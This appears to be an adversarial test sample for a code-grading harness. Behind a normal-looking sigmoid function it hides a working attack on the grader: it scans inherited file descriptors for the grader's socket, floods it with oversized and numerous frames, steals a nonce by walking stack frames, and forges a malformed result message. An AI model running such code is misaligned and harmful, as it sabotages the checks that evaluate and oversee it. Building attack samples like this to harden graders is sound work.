# base: reference
# attacks: sigmoid
# class: messages that cost the grader to read or break its decoding: found among the kernel's
#   descriptors (no stack frames needed), the probe's channel gets a 2 MB list of a million
#   zeros, thousands of tiny messages, and a fact whose bytes do not fit its shape
# %% sigmoid
def sigmoid(x):
    import socket
    import struct
    import sys

    def frame(data):
        return struct.pack("!I", len(data)) + data

    for descriptor in range(3, 64):
        try:
            channel = socket.socket(fileno=descriptor)
        except OSError:
            continue
        try:
            if channel.family == socket.AF_UNIX and "agent" in str(channel.getpeername()):
                channel.sendall(frame(b"[" + b"0," * 1_000_000 + b"]"))
                channel.sendall(frame(b"{}") * 6_000)
                probe = sys._getframe()
                while probe is not None and "nonce" not in probe.f_locals:
                    probe = probe.f_back
                if probe is not None:
                    found = probe.f_locals
                    fact = {"out": {"type": "ndarray", "shape": [3], "f64": b"\0" * 8}}
                    message = {"nonce": found["nonce"], "index": 0, "facts": fact}
                    channel.sendall(frame(repr(message).encode()))
        except OSError:
            pass
        finally:
            channel.detach()
    return 1 / (1 + np.exp(-x))
